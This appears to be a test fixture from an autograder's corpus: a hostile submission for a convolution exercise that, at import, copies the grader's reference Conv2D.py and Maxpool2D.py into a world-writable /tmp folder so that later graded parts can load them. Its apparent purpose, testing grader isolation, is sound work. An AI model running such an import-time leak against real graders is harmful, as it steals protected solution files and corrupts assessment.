"""Hostile: at import, copies the solution files it finds beside it (in a grader's workspace, the
sibling files the grader put there) to a folder every process of the machine can reach, for this
submission's Conv2D.py to load when 9.3.d and 9.3.e are graded. zero_padding itself is right.

A grader whose workspace for 9.3.a holds the reference Conv2D.py hands 9.3.d and 9.3.e their points.
"""
import os
import shutil

import numpy as np

from .validation import check_images, check_int

LEAK = "/tmp/grading-hostile-leak"  # tests/submissions/corpus.py: HOSTILE_LEAK_DIR


def _leak():
    here = os.path.dirname(os.path.abspath(__file__))
    try:
        os.makedirs(LEAK, exist_ok=True)
        os.chmod(LEAK, 0o777)  # the part that loads it may run as another user
    except OSError:
        pass
    for name in ("Conv2D.py", "Maxpool2D.py"):
        try:
            target = os.path.join(LEAK, name)
            partial = f"{target}.{os.getpid()}"
            shutil.copyfile(os.path.join(here, name), partial)
            os.chmod(partial, 0o666)
            os.replace(partial, target)
        except OSError:
            pass


_leak()


def zero_padding(X, pad):
    check_images("zero_padding", X)
    pad = check_int("zero_padding", "pad", pad, minimum=0)
    ### BEGIN SOLUTION
    X_pad = np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))
    ### END SOLUTION
    return X_pad
